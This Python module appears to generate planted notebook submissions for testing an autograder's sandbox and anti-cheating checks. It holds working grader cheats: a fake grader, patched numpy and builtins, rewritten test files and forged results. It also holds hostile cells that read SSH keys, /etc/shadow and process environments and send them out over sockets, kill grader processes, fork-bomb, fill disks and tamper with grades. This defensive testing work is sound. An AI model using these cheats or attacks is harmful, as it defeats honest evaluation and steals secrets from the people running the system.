"""Planted submissions for tests/test_grading.py, generated from the built solution notebooks.

Each planted notebook is the solution (or the empty student notebook) with one specific edit:
a cell added (a cheat, a hostile attempt, a broken cell) or a typical wrong answer taken from
the master's own planted ones (``exercises/masters/<name>.planted/``, see
``exercises/tools/check_planted.py``), run after the solution's cells so that it replaces the
right answer. Only the submissions that are about grading itself live here.
"""

from __future__ import annotations

import copy
import csv
import json
from pathlib import Path

import nbformat

from exercises.tools import check_planted

ROOT = Path(__file__).resolve().parents[1]


def load(path: Path) -> nbformat.NotebookNode:
    return nbformat.read(path, as_version=4)


def insert_cell(nb: nbformat.NotebookNode, index: int, source: str) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    cell = nbformat.v4.new_code_cell(source)
    cell["id"] = f"planted-{index}"
    nb.cells.insert(index, cell)
    return nb


def first_answer_cell(nb: nbformat.NotebookNode) -> int:
    """Index just after the notebook's `import numpy as np` cell (before the first answer)."""
    (index,) = [i for i, c in enumerate(nb.cells) if c.source.strip() == "import numpy as np"]
    return index + 1


def write(nb: nbformat.NotebookNode, path: Path) -> Path:
    nbformat.write(nb, path)
    return path


def read_csv(path: Path) -> dict[str, dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return {row["file"]: row for row in csv.DictReader(f)}


def answer_cell(nb: nbformat.NotebookNode, source: str) -> nbformat.NotebookNode:
    """A copy of nb with source run last: it replaces the answer it redefines, as the planted
    wrong answers are run by exercises/tools/check_planted.py (otter runs every test once,
    after the last cell)."""
    return insert_cell(nb, len(nb.cells), source)


def plants_by_question(name: str) -> dict[str, list[Path]]:
    """Question -> its planted wrong answers (exercises/masters/<name>.planted/q*_*.py)."""
    found: dict[str, list[Path]] = {}
    for path in check_planted.planted_files(name):
        found.setdefault(check_planted.planted_question(path), []).append(path)
    return found


def wrong_answer(sol: nbformat.NotebookNode, plant: Path) -> nbformat.NotebookNode:
    """The solution with one planted wrong answer in place of the right one."""
    return answer_cell(sol, plant.read_text(encoding="utf-8"))


def all_wrong(sol: nbformat.NotebookNode, name: str) -> nbformat.NotebookNode:
    """The solution with a planted wrong answer for every graded question (the first of each)."""
    for plants in plants_by_question(name).values():
        sol = wrong_answer(sol, plants[0])
    return sol


def plant_batch(
    name: str, solution: Path, student: Path, folder: Path, points: dict[str, float]
) -> dict:
    """Write the honest, wrong, broken and cheating submissions of assignment name into folder;
    return {file: expected}.

    expected: dict with the per-question points (one key per question) and status; None for a
    submission checked separately. The wrong ones are the solution with one planted wrong
    answer from exercises/masters/<name>.planted/: for the second and the last question.
    """
    sol, empty = load(solution), load(student)
    full = dict(points)
    zero = dict.fromkeys(full, 0)
    by_question = plants_by_question(name)
    plants: dict[str, tuple[nbformat.NotebookNode | str, dict | None]] = {
        "solution": (sol, {**full, "status": "ok"}),
        "empty": (empty, {**zero, "status": "ok"}),
        # otter runs every cell even after one raised (as on Gradescope): the answers count.
        "raises_first": (
            insert_cell(sol, 0, 'raise RuntimeError("broken on purpose")'),
            {**full, "status": "ok"},
        ),
        "not_a_notebook": ('{"cells": [', {**zero, "status": "error"}),
    }
    questions = list(full)
    for q in dict.fromkeys([questions[1], questions[-1]]):
        plant = by_question[q][0]
        plants[f"wrong_{plant.stem}"] = (wrong_answer(sol, plant), {**full, q: 0, "status": "ok"})

    # --- cheats: each starts from wrong answers, so any point gained is a point stolen.
    wrong = all_wrong(sol, name)
    always_pass = {
        "name": "q",
        "points": 3,
        "suites": [{"cases": [{"code": ">>> True\nTrue", "hidden": False}], "type": "doctest"}],
    }
    meta = copy.deepcopy(wrong)
    meta.metadata["otter"] = {
        "assignment_name": name,
        "ok_format": True,
        "tests": {q: {**always_pass, "name": q} for q in full},
    }
    for cell in meta.cells:
        if cell.cell_type == "code" and "grader.check(" in cell.source:
            cell.metadata["otter"] = {"tests": []}
    plants["cheat_metadata_tests"] = (meta, {**zero, "status": "ok"})

    fake_grader = (
        "class FakeGrader:\n"
        "    def check(self, *args, **kwargs):\n"
        '        return "All test cases passed!"\n'
        "\n"
        "    def check_all(self):\n"
        '        return "All test cases passed!"\n'
        "\n"
        "\n"
        "grader = FakeGrader()\n"
        "otter.Notebook = FakeGrader"
    )
    plants["cheat_fake_grader"] = (
        insert_cell(wrong, first_answer_cell(wrong), fake_grader),
        {**zero, "status": "ok"},
    )

    patch_libs = (
        "import builtins\n"
        "import math\n"
        "import numpy.testing\n"
        "\n"
        "np.allclose = lambda *a, **k: True\n"
        "np.isclose = lambda *a, **k: True\n"
        "np.array_equal = lambda *a, **k: True\n"
        "numpy.testing.assert_allclose = lambda *a, **k: None\n"
        "math.isclose = lambda *a, **k: True\n"
        "abs = lambda x: 0.0\n"
        "len = lambda x: 100"
    )
    plants["cheat_patch_libraries"] = (
        insert_cell(wrong, first_answer_cell(wrong), patch_libs),
        {**zero, "status": "ok"},
    )

    edit_tests = (
        "import glob\n"
        "\n"
        'for path in glob.glob("tests/*.py") + glob.glob("../source/tests/*.py"):\n'
        '    name = path.rsplit("/", 1)[1][:-3]\n'
        '    with open(path, "w") as f:\n'
        "        f.write(\n"
        '            \'OK_FORMAT = True\\ntest = {"name": %r, "points": 3, "suites": \'\n'
        '            \'[{"cases": [{"code": ">>> True\\\\nTrue", "hidden": False}], \'\n'
        '            \'"type": "doctest", "scored": True, "setup": "", "teardown": ""}]}\\n\'\n'
        "            % name\n"
        "        )"
    )
    plants["cheat_edit_test_files"] = (
        insert_cell(wrong, first_answer_cell(wrong), edit_tests),
        {**zero, "status": "error"},
    )

    # Replaces the test files, lets its own grader.check cells run them, restores them at the end.
    swap = (
        "import glob\n"
        "\n"
        "_saved = {p: open(p).read() for p in glob.glob('tests/*.py')}\n"
        "for _p in _saved:\n"
        "    _q = _p.rsplit('/', 1)[1][:-3]\n"
        "    with open(_p, 'w') as f:\n"
        "        f.write(\n"
        '            \'OK_FORMAT = True\\ntest = {"name": %r, "points": 3, "suites": \'\n'
        '            \'[{"cases": [{"code": ">>> True\\\\nTrue", "hidden": False}], \'\n'
        '            \'"type": "doctest", "scored": True, "setup": "", "teardown": ""}]}\\n\'\n'
        "            % _q\n"
        "        )"
    )
    restore = (
        "for _p, _text in _saved.items():\n    with open(_p, 'w') as f:\n        f.write(_text)"
    )
    swapped = insert_cell(wrong, first_answer_cell(wrong), swap)
    # (otter runs every test once, after the last cell: the swap has no effect at all)
    plants["cheat_swap_and_restore_tests"] = (
        insert_cell(swapped, len(swapped.cells), restore),
        {**zero, "status": "ok"},
    )

    # An 8 GiB allocation among right answers: MemoryError in that cell, the rest graded.
    plants["huge_allocation"] = (
        insert_cell(sol, first_answer_cell(sol), "big = np.ones(2**30)  # 8 GiB"),
        {**full, "status": "ok"},
    )

    # Forging otter's own results from inside the kernel: the documented limit.
    forge = (
        "from otter.test_files import abstract_test, ok_test\n"
        "\n"
        "def _run(self, env):\n"
        "    self.test_case_results = [\n"
        '        abstract_test.TestCaseResult(test_case=tc, message="", passed=True)\n'
        "        for tc in self.test_cases\n"
        "    ]\n"
        "\n"
        "ok_test.OKTestFile.run = _run"
    )
    plants["cheat_forge_otter"] = (
        insert_cell(wrong, first_answer_cell(wrong), forge),
        None,  # checked separately (documented limit)
    )

    expected = {}
    for plant_name, (nb, exp) in plants.items():
        path = folder / f"{plant_name}.ipynb"
        if isinstance(nb, str):
            path.write_text(nb)
        else:
            write(nb, path)
        expected[path.name] = exp
    return expected


def otter_metadata(path: Path) -> dict:
    return json.loads(path.read_text())["metadata"].get("otter", {})


def plant_hostile(
    name: str, solution: Path, folder: Path, targets: dict, points: dict[str, float]
) -> dict:
    """Hostile and tricky-but-honest submissions of assignment name; return {file: expected}.

    targets: absolute paths and values the hostile code aims at (it knows them, as a student
    who guessed them would): home_secret, repo_secret (files), secret (the text), port (a
    listener on 127.0.0.1), out, submissions, scratch (folders), marker (argv of a daemon).
    Each hostile notebook starts from wrong answers: any point it gets is a point stolen.
    expected values: per-question points and status; status None means "ok or error".
    """
    sol = load(solution)
    full = dict(points)
    zero = dict.fromkeys(full, 0)
    all_wrong_ = all_wrong(sol, name)
    t = {k: str(v) for k, v in targets.items()}
    plants: dict[str, tuple[nbformat.NotebookNode, dict]] = {}

    def hostile(plant: str, source: str, expected: dict, at_end: bool = False) -> None:
        index = len(all_wrong_.cells) if at_end else first_answer_cell(all_wrong_)
        plants[plant] = (insert_cell(all_wrong_, index, source), expected)

    # Reaches out every way it can think of, and shows what it got everywhere it can (printed,
    # raised in a cell error, in its public test output, saved to files):
    # - reads secrets: in your HOME, next to the repository, /etc/shadow, other processes'
    #   environments and command lines;
    # - connects: to the test's listener on 127.0.0.1, to the outside world;
    # - writes: into OUT (a new file, the CSV, another student's log), into SUBMISSIONS (deletes
    #   one, edits one), into the other submissions' scratch folders.
    hostile(
        "hostile_reach_out",
        "import glob, os, socket, urllib.request\n"
        "found = []\n"
        f"for path in [{t['home_secret']!r}, {t['repo_secret']!r}, '/etc/shadow',\n"
        "             os.path.expanduser('~/.ssh/id_rsa'), '/root/.bash_history',\n"
        "             *glob.glob('/proc/*/environ'), *glob.glob('/proc/*/cmdline')]:\n"
        "    try:\n"
        "        found.append(open(path, errors='replace').read())\n"
        "    except OSError as e:\n"
        "        print('denied', path, e)\n"
        "found.append(repr(dict(os.environ)))\n"
        "loot = '\\n'.join(found)\n"
        "print(loot)\n"
        "open('loot.txt', 'w').write(loot)\n"
        "for target in [('127.0.0.1', " + t["port"] + "), ('pypi.org', 443)]:\n"
        "    try:\n"
        "        socket.create_connection(target, timeout=3).sendall(loot.encode())\n"
        "        print('connected', target)\n"
        "    except OSError as e:\n"
        "        print('no connection', target, e)\n"
        "try:\n"
        f"    urllib.request.urlopen('http://127.0.0.1:{t['port']}/', timeout=3)\n"
        "except OSError as e:\n"
        "    print('no http', e)\n"
        f"out, subs, scratch = {t['out']!r}, {t['submissions']!r}, {t['scratch']!r}\n"
        "attempts = [\n"
        "    lambda: open(os.path.join(out, 'pwned.txt'), 'w').write(loot),\n"
        "    lambda: open(os.path.join(out, 'grades.csv'), 'w').write('pwned'),\n"
        "    lambda: open(os.path.join(out, 'logs', 'solution.log'), 'w').write('pwned'),\n"
        "    lambda: os.remove(os.path.join(subs, 'solution.ipynb')),\n"
        "    lambda: open(os.path.join(subs, 'empty.ipynb'), 'a').write('pwned'),\n"
        "    *[lambda d=d: open(os.path.join(d, 'pwned.txt'), 'w').write('pwned')\n"
        "      for d in glob.glob(os.path.join(scratch, '*')) + [scratch]],\n"
        "]\n"
        "for attempt in attempts:\n"
        "    try:\n"
        "        attempt()\n"
        "        print('wrote')\n"
        "    except OSError as e:\n"
        "        print('refused', e)\n"
        "def numerical_diff(f, x):  # the public test's error message shows it\n"
        "    raise RuntimeError(loot[-3000:])\n"
        "raise RuntimeError(loot[-2000:])",
        {**zero, "status": "ok"},
        at_end=True,
    )
    # Signals: its parent, its parent's group, and any process that looks like the grader.
    hostile(
        "hostile_signals",
        "import os, signal\n"
        "for pid in os.listdir('/proc'):\n"
        "    try:\n"
        "        cmd = open(f'/proc/{pid}/cmdline', 'rb').read()\n"
        "    except OSError:\n"
        "        continue\n"
        "    if b'pytest' in cmd or b'exercises.tools.grade' in cmd or b'bwrap' in cmd:\n"
        "        for kill in (os.kill, os.killpg):\n"
        "            try:\n"
        "                kill(int(pid), signal.SIGKILL)\n"
        "            except OSError as e:\n"
        "                print('refused', pid, e)\n"
        "os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)\n"
        "os.kill(os.getppid(), signal.SIGKILL)",
        {**zero, "status": "error"},
    )
    # A fork bomb (capped at 3000 children, in case the limits fail on a shared machine).
    hostile(
        "hostile_fork_bomb",
        "import os, time\n"
        "children = 0\n"
        "while children < 3000:\n"
        "    try:\n"
        "        pid = os.fork()\n"
        "    except OSError:\n"
        "        continue  # forks without end\n"
        "    if pid == 0:\n"
        "        time.sleep(120)\n"
        "        os._exit(0)\n"
        "    children += 1",
        {**zero, "status": "error"},
    )
    # Fills /tmp, its HOME and its working folder (16 MB files, under the file-size limit).
    hostile(
        "hostile_fill_disk",
        "import os\n"
        "for folder in ['/tmp', os.path.expanduser('~'), '.']:\n"
        "    try:\n"
        "        for i in range(200):\n"
        "            with open(os.path.join(folder, f'fill{i}'), 'wb') as f:\n"
        "                f.write(b'x' * 2**24)\n"
        "    except OSError as e:\n"
        "        print('full', folder, e)",
        {**zero, "status": None},
    )
    # A daemon (double fork + setsid) that outlives the notebook and tries to rewrite the CSV.
    hostile(
        "hostile_daemon",
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        if os.fork() == 0:\n"
        f"            os.execv('/bin/sleep', {t['marker'].split()!r})\n"
        "        time.sleep(15)\n"
        f"        open(os.path.join({t['out']!r}, 'grades.csv'), 'w').write('pwned')\n"
        "    os._exit(0)",
        {**zero, "status": "ok"},
    )
    # Builtins patched three ways: the hidden tests still see the real ones.
    hostile(
        "cheat_builtins_abs",
        "import builtins\nbuiltins.abs = lambda x: 0.0\nbuiltins.all = lambda x: True",
        {**zero, "status": "ok"},
    )
    hostile(
        "cheat_import_hook",
        "import builtins, types\n"
        "_fake = types.ModuleType('builtins')\n"
        "_fake.__dict__.update(vars(builtins))\n"
        "_fake.abs = lambda x: 0.0\n"
        "_fake.all = lambda x: True\n"
        "_real_import = builtins.__import__\n"
        "def _hook(name, *args, **kwargs):\n"
        "    return _fake if name == 'builtins' else _real_import(name, *args, **kwargs)\n"
        "builtins.__import__ = _hook",
        {**zero, "status": "ok"},
    )
    hostile(
        "cheat_replace_builtins_module",
        "import builtins, sys, types\n"
        "_fake = types.ModuleType('builtins')\n"
        "_fake.__dict__.update(vars(builtins))\n"
        "_fake.abs = lambda x: 0.0\n"
        "_fake.all = lambda x: True\n"
        "sys.modules['builtins'] = _fake",
        {**zero, "status": "ok"},
    )
    # Test files re-weighted: same cases, all points on the public one, all_or_nothing off.
    hostile(
        "cheat_reweighted_tests",
        "import glob, re\n"
        "for path in glob.glob('tests/*.py'):\n"
        "    text = open(path).read()\n"
        "    text = text.replace(\"'all_or_nothing': True\", \"'all_or_nothing': False\")\n"
        "    text = re.sub(r\"'hidden': True,\", \"'hidden': True, 'points': 0,\", text)\n"
        "    open(path, 'w').write(text)",
        {**zero, "status": "ok"},
    )

    # Honest but unusual, all in one notebook: no otter metadata at all, a syntax error in an
    # extra cell, a mid-notebook chdir.
    odd = insert_cell(sol, first_answer_cell(sol) + 2, "import os\nos.chdir('/tmp')")
    odd = insert_cell(odd, first_answer_cell(odd), "def broken(:\n    pass")
    odd.metadata.pop("otter", None)
    plants["honest_oddities"] = (odd, {**full, "status": "ok"})

    expected = {}
    for plant, (nb, exp) in plants.items():
        write(nb, folder / f"{plant}.ipynb")
        expected[f"{plant}.ipynb"] = exp
    return expected
